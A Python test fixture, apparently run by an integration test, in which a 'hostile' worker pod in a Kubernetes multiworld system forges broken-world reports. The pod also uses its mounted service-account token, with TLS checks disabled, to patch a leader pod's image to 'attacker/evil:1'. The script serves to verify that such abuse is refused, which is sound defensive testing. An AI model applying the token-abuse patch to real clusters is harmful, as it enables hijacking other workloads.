"""A worker pod turned hostile, run for real in our worker image by
tests/kube/test_node_journeys.py (as `python -c`, so the image needs nothing of the tests).

Every pod of its MultiWorld runs it. The pod of member `attacker` attacks with all it holds,
its pod's environment and its multiworld.io token, then idles: it reports a world it holds no
rank in broken, reports its own world broken at an epoch to come, and patches another member
pod's image through the API server. Each outcome is one line of its log: `attack <what>: <how>`.
The other pods idle.
"""

import json
import os
import ssl
import time
import urllib.error
import urllib.request

from multiworld.channels import open_channel
from multiworld.contract import ENV_NAME, ENV_NAMESPACE, TOKEN_PATH, BrokenWorldReport, WorkerEnv

env = WorkerEnv.from_env(os.environ)
if env.pod.startswith(f"{os.environ[ENV_NAME]}-attacker-"):
    channel = open_channel(env.table, env.pod)
    channel.start(lambda table: None)
    (mine,) = env.worlds
    channel.report(BrokenWorldReport(world="victim", epoch=1, reason="forged", pod=env.pod))
    channel.report(BrokenWorldReport(world=mine.name, epoch=mine.epoch + 5, reason="forged", pod=env.pod))
    print("attack reports: sent", flush=True)
    namespace, victim = os.environ[ENV_NAMESPACE], f"{os.environ[ENV_NAME]}-leader-0"
    url = (
        f"https://{os.environ['KUBERNETES_SERVICE_HOST']}:{os.environ['KUBERNETES_SERVICE_PORT']}"
        f"/api/v1/namespaces/{namespace}/pods/{victim}"
    )
    patch = {"spec": {"containers": [{"name": "worker", "image": "attacker/evil:1"}]}}
    with open(TOKEN_PATH) as token_file:
        token = token_file.read().strip()
    request = urllib.request.Request(
        url,
        data=json.dumps(patch).encode(),
        method="PATCH",
        headers={"Authorization": f"Bearer {token}", "Content-Type": "application/merge-patch+json"},
    )
    try:
        urllib.request.urlopen(request, context=ssl._create_unverified_context(), timeout=30)
        print("attack patch: allowed", flush=True)
    except urllib.error.HTTPError as error:
        print(f"attack patch: refused {error.code}", flush=True)
    except OSError as error:
        print(f"attack patch: no answer ({error})", flush=True)
while True:
    time.sleep(60)
